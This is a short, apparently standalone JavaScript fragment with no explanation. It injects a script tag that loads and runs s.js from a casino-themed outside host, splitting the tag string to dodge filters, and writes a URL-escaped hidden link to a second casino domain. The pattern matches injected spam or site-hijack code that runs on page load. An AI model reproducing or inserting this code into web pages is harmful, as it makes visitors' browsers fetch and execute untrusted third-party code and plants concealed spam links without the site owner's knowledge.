document.write('<scr'+'ipt src="'+('https:'==document.location.protocol?'https://':'http://')+'write.casino.example/s.js"></scr'+'ipt>');
document.writeln(unescape('%3Ca href=%22http://written.casino.example/%22%3Ex%3C/a%3E'));
